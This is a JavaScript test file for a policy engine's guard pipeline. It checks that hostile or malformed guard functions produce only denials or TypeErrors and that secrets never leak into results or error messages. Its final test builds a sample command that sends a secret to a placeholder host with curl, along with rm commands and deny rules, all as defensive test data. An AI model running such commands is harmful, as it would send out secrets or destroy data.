/** Guards that mean harm or are mistaken, and what is handed to them: a denial or a `TypeError`, never an allow or a trap. */

import assert from "node:assert/strict";
import process from "node:process";
import { after, afterEach, test } from "node:test";
import { strings, stringsBeside } from "../support/guards.mjs";
import { load } from "../support/installed.mjs";

const { GuardError, PolicyEngine } = load();

const engine = new PolicyEngine([{ name: "team", deny: ["cmd:rm"], danger: "*" }]);
const show = { type: "show" };
const guarded = (evaluate, rest = {}) => engine.pipeline().guard({ timing: "always", filter: "op:show", evaluate, ...rest });

const unhandled = [];
process.on("unhandledRejection", (reason) => unhandled.push(reason));
after(() => assert.deepEqual(unhandled, []));

// Whatever happened, the module still works.
afterEach(() => {
  assert.equal(engine.checkArgv(["rm"]).decision, "deny");
  assert.equal(engine.pipeline().beforeSync(show).decision, "allow");
});

const throwing = () => {
  throw new Error("from the host");
};
const traps = {
  get: throwing,
  set: throwing,
  has: throwing,
  ownKeys: throwing,
  getPrototypeOf: throwing,
  getOwnPropertyDescriptor: throwing,
  apply: throwing,
};
const everything = new Proxy({}, traps);
const hostileFunction = new Proxy(() => "allow", traps);

async function assertFails(evaluate, message = /./, rest) {
  const { decision, denial, reason } = await guarded(evaluate, { timeout: 50, ...rest }).before(show);
  assert.deepEqual([decision, denial?.code], ["deny", "GUARD_FAILED"]);
  assert.match(reason, message);
}

test("what a function throws, however strange, denies", async () => {
  const unreadable = Object.defineProperty(new Error(), "message", { get: throwing });
  const strange = [new Error("why"), "text", undefined, null, 7, everything, unreadable, { message: {} }, Symbol("x")];
  for (const thrown of strange) {
    const fails = () => {
      throw thrown;
    };
    await assertFails(fails);
    await assertFails(() => Promise.reject(thrown));
    await assertFails(async () => fails());
    const { denial } = guarded(fails).beforeSync(show);
    assert.equal(denial.code, "GUARD_FAILED");
  }
  await assertFails(() => {
    throw new Error("why \ud800 not");
  }, /why \ufffd not/);
  const long = await guarded(() => {
    throw new Error("x".repeat(1_000_000));
  }).before(show);
  assert.ok(long.reason.length < 1000);
  const forever = () => forever();
  await assertFails(forever);
  await assertFails(hostileFunction);
});

test("what a function returns is an action, or denies", async () => {
  const cyclic = { allow: {} };
  cyclic.allow.self = cyclic;
  let deep = {};
  for (let level = 0; level < 10_000; level += 1) deep = { allow: deep };
  const junk = [
    undefined,
    null,
    true,
    7,
    7n,
    "",
    "Allow",
    "deny ",
    [],
    ["allow"],
    {},
    { alow: 1 },
    { allow: undefined },
    { allow: () => 1 },
    { allow: 1, deny: "x" },
    { deny: 7 },
    { labels: { add: [7] } },
    { env: { x: 1 }, policy: { dney: 1 } },
    new String("allow"),
    new (class Action {
      allow = 1;
    })(),
    new Map([["allow", 1]]),
    Object.create({ allow: 1 }),
    Object.defineProperty({}, "allow", { value: 1 }),
    { allow: 1, [Symbol("x")]: 1 },
    cyclic,
    deep,
    everything,
    { get allow() {
      return throwing();
    } },
    JSON.parse('{"allow":1,"__proto__":{"x":1}}'),
    { toJSON: () => "allow" },
    { allow: "\ud800" },
    () => "allow",
    Symbol("allow"),
    { allow: "x".repeat(17 * 1024 * 1024) },
  ];
  for (const value of junk) {
    await assertFails(() => value);
    await assertFails(async () => value);
    assert.equal(guarded(() => value).beforeSync(show, [{}]).denial?.code, "GUARD_FAILED");
  }
  // Read once, so that what was judged is what is done.
  let reads = 0;
  const changing = {
    get allow() {
      reads += 1;
      return reads === 1 ? "first" : "second";
    },
  };
  const result = await guarded(() => changing).before(show, [{ value: "x" }]);
  assert.deepEqual([result.inputs[0].value, reads], ["first", 1]);
  const own = await guarded(() => JSON.parse('{"allow":{"__proto__":{"decision":"allow"},"a":1}}')).before(show, [{}]);
  assert.deepEqual(Object.keys(own.inputs[0].value), ["__proto__", "a"]);
});

test("thenables answer once or not at all", async () => {
  const twice = (first, second) => ({
    then(resolve, reject) {
      reject(first);
      resolve(second);
      throw new Error("and on");
    },
  });
  await assertFails(() => twice(new Error("no"), "allow"), /no/);
  await assertFails(() => ({ then() {} }), /did not settle within 50 ms/);
  await assertFails(() => ({ get then() {
    return throwing();
  } }), /from the host/);
  await assertFails(() => ({ then: throwing }));
  await assertFails(() => new Promise(() => {}), /did not settle/);
  const pipeline = guarded(() => ({
    then(resolve) {
      resolve({ deny: "first" });
      resolve("allow");
      setTimeout(resolve, 5, "allow");
    },
  }));
  assert.equal((await pipeline.before(show)).reason, "first");
  const inTurn = { then: (resolve) => resolve(Promise.resolve("allow")) };
  assert.equal((await guarded(() => inTurn).before(show)).decision, "allow");
  await assertFails(() => Object.assign(Promise.resolve("allow"), { constructor: null, then: throwing }));
});

test("a function cannot change what it is told, or what another is told", async () => {
  const seen = [];
  const meddle = (context) => {
    const write = [
      () => (context.input = 1),
      () => (context.mx.op.labels = []),
      () => context.mx.op.labels.push("x"),
      () => (context.inputs[0].value.a = 2),
      () => Object.setPrototypeOf(context, null),
      () => delete context.mx,
    ];
    for (const each of write) assert.throws(each, TypeError);
    seen.push(context);
    return "allow";
  };
  const pipeline = guarded(meddle).guard({ timing: "before", filter: "op:show", evaluate: meddle });
  const result = await pipeline.before(show, [{ value: { a: 1 } }]);
  assert.equal(result.decision, "allow");
  assert.notEqual(seen[0], seen[1]);
  assert.notEqual(seen[0].mx, seen[1].mx);
  assert.deepEqual(result.inputs[0].value, { a: 1 });
});

test("definitions are read once, and refused where they are no data", () => {
  const pipeline = engine.pipeline();
  const good = { timing: "before", filter: "op:show", when: [["*", "deny"]] };
  const bad = [
    undefined,
    null,
    7,
    "deny",
    [],
    () => 1,
    everything,
    new (class Definition {})(),
    { ...good, when: [["*", () => "deny"]] },
    { ...good, when: undefined, evaluate: "deny" },
    { ...good, when: undefined, evaluate: {} },
    { ...good, [Symbol("x")]: 1 },
    Object.defineProperty({ ...good }, "name", { get: throwing, enumerable: true }),
    { ...good, name: "\ud800" },
    { ...good, timeout: NaN },
  ];
  for (const definition of bad) assert.throws(() => pipeline.guard(definition), TypeError);
  const refused = [
    {},
    { ...good, __proto: 1 },
    JSON.parse('{"timing":"before","filter":"x","when":[["*","deny"]],"__proto__":{}}'),
    { ...good, timing: undefined },
    { ...good, when: [["*", "x".repeat(17 * 1024 * 1024)]] },
    { ...good, when: [] },
    { ...good, name: "__policy_x" },
    { ...good, timeout: 5 },
    { ...good, when: undefined, evaluate: () => "allow", timeout: 0 },
  ];
  for (const definition of refused) {
    assert.throws(() => pipeline.guard(definition), (error) => error instanceof GuardError && error.problems.length > 0);
  }
  assert.deepEqual(pipeline.guards(), []);
  const reads = {};
  const counted = new Proxy(good, {
    get(target, key, receiver) {
      reads[key] = (reads[key] ?? 0) + 1;
      return Reflect.get(target, key, receiver);
    },
  });
  pipeline.guard(counted);
  assert.deepEqual(reads, { timing: 1, filter: 1, when: 1 });
  // What is changed later is not what was registered.
  const own = { ...good, filter: "op:log", when: [["*", "deny"]] };
  pipeline.guard(own);
  own.when[0][1] = "allow";
  own.filter = "op:nothing";
  assert.equal(pipeline.beforeSync({ type: "log" }).decision, "deny");
});

test("inputs are read once, values at most once", async () => {
  const reads = [];
  const proxy = (target, name) =>
    new Proxy(target, {
      get(object, key, receiver) {
        if (typeof key === "string") reads.push(`${name}.${key}`);
        return Reflect.get(object, key, receiver);
      },
    });
  const value = proxy({ a: 1 }, "value");
  const input = proxy({ value, labels: ["pii"] }, "input");
  const pipeline = guarded(({ input: given }) => ({ allow: given[0].a }));
  pipeline.guard({ timing: "before", filter: "pii", when: [["@input.a == 1", "allow"]] });
  assert.equal((await pipeline.before(show, [input])).inputs[0].value, 1);
  assert.deepEqual(reads, ["input.value", "input.labels", "value.a"]);
  for (const bad of [everything, [everything], [{ value: 1, labels: everything }]]) {
    await assert.rejects(pipeline.before(show, bad), TypeError);
  }
  await assert.rejects(pipeline.before(everything), TypeError);
  await assert.rejects(pipeline.before(show, [], everything), TypeError);
  await assert.rejects(pipeline.before(show, [{ value: everything, labels: ["pii"] }]), TypeError);
  const forged = JSON.parse('{"__proto__":{"guards":false},"id":"x"}');
  await assert.rejects(pipeline.before(show, [], forged), TypeError);
});

test("a secret stands nowhere but in inputs and output", async () => {
  const secret = "hunter2-s3cr3t";
  const labels = ["secret"];
  const input = { value: secret, labels };
  const strict = new PolicyEngine([
    { name: "team", deny: ["cmd:rm"], allow: ["cmd:echo:*"], labels: { secret: { deny: ["net:w"] } } },
  ]);
  const send = { type: "cmd", command: `curl -d ${secret} https://${secret}.example` };
  const says = (action) => ({ timing: "always", filter: "*", evaluate: () => action });
  const templates = [
    { deny: "it is @input" },
    { retry: "not @input" },
    { env: { token: "@input", list: ["@mx.op.command"] } },
    { allow: { "a key": "@input" } },
  ];
  const guards = [
    ...templates.map((action) => ({ timing: "before", filter: "secret", when: [["*", action]] })),
    ...[{ deny: secret }, { retry: secret }, { env: secret }, { [secret]: 1 }, { labels: { [secret]: 1 } }, secret].map(says),
    { timing: "always", filter: "*", evaluate: () => ({ env: {}, policy: { [secret]: 1 } }) },
    { timing: "always", filter: "*", evaluate: () => ({ env: {}, policy: { deny: [`cmd:${secret}`] } }) },
    { timing: "always", filter: "*", evaluate: () => ({ labels: { remove: [secret] } }) },
    {
      timing: "always",
      filter: "*",
      evaluate() {
        throw new Error(`leak of ${secret}`);
      },
    },
    { timing: "always", filter: "*", evaluate: () => Promise.reject(new Error(secret)) },
    { timing: "before", filter: "secret", when: [["@input < 1", "allow"]] },
    { timing: "before", filter: "secret", when: [[`@input == "x" || @input.x.startsWith(1)`, "allow"]] },
  ];
  const calls = [
    (pipeline) => pipeline.before(send, [input]),
    (pipeline) => pipeline.before(send, [{ ...input, span: { start: 8, end: 22 } }], { rebuild: () => `rm ${secret}` }),
    (pipeline) => pipeline.before(show, [input], { retryable: true, id: secret, args: { [secret]: secret } }),
    (pipeline) => pipeline.before({ type: "exe", name: secret, command: `rm ${secret}` }, [{ ...input, arg: secret }]),
    (pipeline) => pipeline.before(show, [{ value: { [secret]: [secret] }, labels }, input]),
    (pipeline) => pipeline.before(show, [input], { rebuild: () => Promise.reject(new Error(secret)) }),
    (pipeline) => pipeline.after(send, [input], { value: secret }),
    (pipeline) => pipeline.after(show, [], { value: secret, labels }),
    (pipeline) => pipeline.before(show, [{ value: { [secret]: () => 1 }, labels }]),
    (pipeline) => pipeline.after(show, [input], { value: { a: Symbol(secret) }, labels }),
  ];
  let denials = 0;
  for (const guard of [...guards, undefined]) {
    for (const [index, ask] of calls.entries()) {
      const pipeline = strict.pipeline();
      if (guard !== undefined) pipeline.guard(guard);
      const where = `${JSON.stringify(guard) ?? "no guard"} ${guard?.evaluate ?? ""}, call ${index}`;
      try {
        const result = await ask(pipeline);
        if (result.decision !== "allow") denials += 1;
        assert.deepEqual(stringsBeside(result).filter((text) => text.includes(secret)), [], where);
      } catch (error) {
        if (!(error instanceof TypeError)) throw error;
        const said = [error.message, error.stack, ...strings({ ...error }), String(error.cause)];
        assert.deepEqual(said.filter((text) => text.includes(secret)), [], where);
      }
    }
  }
  assert.ok(denials > 50, `only ${denials} denials`);
});
